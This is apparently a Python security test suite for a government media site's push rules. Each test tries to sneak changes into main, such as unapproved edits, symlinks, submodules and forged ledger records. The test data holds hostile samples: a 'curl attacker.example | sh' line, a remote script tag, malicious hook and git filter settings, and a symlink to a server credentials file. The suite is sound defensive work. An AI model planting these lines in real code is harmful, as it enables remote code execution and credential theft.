"""Attack battery, classes 1–2 on paths: what a push to main may change at all.

Files under ``content/`` are reviewed (posts, the accounts registry and the rule files need the
three-stage approval); ``ledger/**`` is written only by the publisher; everything else (code,
site configuration, CI, hooks) is refused on main, and so are symlinks and submodules
anywhere in the pushed tree.
"""

from __future__ import annotations

import json
import os

import pytest

from tests.security.battery_support import (
    ACCOUNTS,
    ALLOW,
    SAMPLE_POSTS,
    Unit,
    accepted,
    post_text,
)

POST = "content/posts/2026/11/yanshi-fuwu.md"


def reviewed_post(unit: Unit, path: str = POST) -> str:
    """A new post with three valid approvals on branch ``feature``; returns the tip."""
    unit.branch("feature")
    unit.write(path, post_text("政务服务大厅延时服务"))
    unit.commit("New post")
    unit.approval_all(path)
    return unit.head()


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("mkdocs.yml", "site_name: 牙克石政务服务\nhooks: [site_config/evil.py]\n"),
        ("pipeline/x.py", "import os\nos.system('curl attacker.example | sh')\n"),
        (".github/workflows/ci.yml", "on: push\njobs: {x: {runs-on: self-hosted}}\n"),
        ("hooks/pre-receive", "#!/bin/sh\nexit 0\n"),
        (
            "site_config/overrides/main.html",
            "<script src='https://attacker.example/x.js'></script>\n",
        ),
        (".gitattributes", "*.md filter=evil\n"),
        ("README.md", "# 牙克石政务服务\n"),
    ],
    ids=lambda value: value if "\n" not in value else "",
)
def test_files_outside_content_are_refused_on_main(unit: Unit, path: str, data: str) -> None:
    """Attack: a push that brings a reviewed post also changes a file outside ``content/``
    (code, site configuration, CI, hooks, git attributes, docs).
    Defence: nothing outside the reviewed and publisher-written kinds may change on main.
    Honest: the same push without that file is accepted."""
    reviewed = reviewed_post(unit)
    unit.write(path, data)
    unit.commit(f"Also change {path}")
    unit.attack()
    unit.clone.git("reset", "-q", "--hard", reviewed)
    accepted(unit, unit.push())


def test_symlink_outside_content_is_refused(unit: Unit) -> None:
    """Attack: a symlink (to the server's credentials file beside the work clone) anywhere in
    the pushed tree, here at the top level.
    Defence: mode 120000 anywhere in a pushed main tree is refused."""
    reviewed = reviewed_post(unit)
    os.symlink("../govmedia.env", unit.clone.path / "credentials")
    unit.commit("Add a link")
    unit.attack()
    unit.clone.git("reset", "-q", "--hard", reviewed)
    accepted(unit, unit.push())


def test_approved_symlink_under_content_is_refused(unit: Unit) -> None:
    """Attack: a post path that is a symlink to a server file, with three valid approvals of
    exactly that (symlink) blob.
    Defence: symlinks are refused even when approved. Honest: a regular file at the same
    path with the same approvals is accepted."""
    unit.branch("feature")
    leak = "content/posts/2026/11/leak.md"
    os.makedirs(unit.clone.path / "content/posts/2026/11", exist_ok=True)
    os.symlink("../../../../../govmedia.env", unit.clone.path / leak)
    unit.commit("A post that is a link")
    assert unit.clone.git("ls-tree", "HEAD", leak).startswith("120000")
    unit.approval_all(leak)
    unit.attack()
    unit.clone.git("reset", "-q", "--hard", "origin/main")
    reviewed_post(unit, leak)
    accepted(unit, unit.push())


def test_submodule_is_refused(unit: Unit) -> None:
    """Attack: a gitlink (submodule, mode 160000) under ``content/`` pointing at any commit.
    Defence: submodules are refused anywhere in a pushed main tree."""
    reviewed = reviewed_post(unit)
    unit.clone.git(
        "update-index", "--add", "--cacheinfo", f"160000,{unit.server_ref()},content/vendor"
    )
    unit.clone.git("commit", "-q", "-m", "Add a submodule", env=unit.unsigned_env("王芳"))
    assert unit.clone.git("ls-tree", "HEAD", "content/vendor").startswith("160000")
    unit.attack()
    unit.clone.git("reset", "-q", "--hard", reviewed)
    accepted(unit, unit.push())


def test_accounts_change_without_approval(unit: Unit) -> None:
    """Attack: change the accounts registry (a public account's name) without approvals.
    Defence: ``content/accounts.yml`` needs the three-stage approval like a post; the honest
    change approved with ``govmedia approve content/accounts.yml --stage N`` is accepted."""
    unit.branch("accounts")
    text = (unit.clone.path / ACCOUNTS).read_text(encoding="utf-8")
    unit.write(ACCOUNTS, text.replace("name: 牙克石政务服务\n", "name: 牙克石政务服务中心\n", 1))
    unit.commit("Rename the WeChat account")
    unit.attack()
    unit.approve_all(ACCOUNTS)
    accepted(unit, unit.push())


def test_rules_allowlist_change_without_approval(unit: Unit) -> None:
    """Attack: allowlist a forbidden phrase in the unit's rule files without approvals, so
    ``govmedia check`` stops flagging it.
    Defence: ``content/rules/**`` needs the three-stage approval; approved, it is accepted."""
    unit.branch("rules")
    text = (unit.clone.path / ALLOW).read_text(encoding="utf-8")
    unit.write(
        ALLOW,
        text.replace("allow:\n", "allow:\n  - phrase: 代办加急出证\n    reason: 窗口便民服务\n", 1),
    )
    unit.commit("Allowlist a phrase")
    unit.attack()
    unit.approve_all(ALLOW)
    accepted(unit, unit.push())


def test_ledger_line_pushed_by_an_editor(unit: Unit) -> None:
    """Attack: an editor appends a ledger record claiming a post was published at a URL of
    her choice (the archive would link to it) — and one claiming a retraction.
    Defence: ``ledger/**`` changes only in commits signed by a roster publisher.
    (The honest publisher-signed counterpart belongs to the publisher's own tests.)"""
    unit.branch("ledger")
    slug = SAMPLE_POSTS[1].rsplit("/", 1)[1][:-3]
    records = [
        {
            "id": f"forged-{event}",
            "at": "2026-11-20T08:00:00Z",
            "run": "forged",
            "event": event,
            "slug": slug,
            "channel": "wechat",
            "path": SAMPLE_POSTS[1],
            "platform": "wechat",
            "url": "https://attacker.example/fake",
        }
        for event in ("published", "retracted")
    ]
    unit.write(
        "ledger/2026-11.jsonl",
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records),
    )
    unit.commit("Ledger: forged records")
    unit.attack()
    unit.signed("王芳", "Ledger: forged records, signed by an editor\n")
    unit.attack()
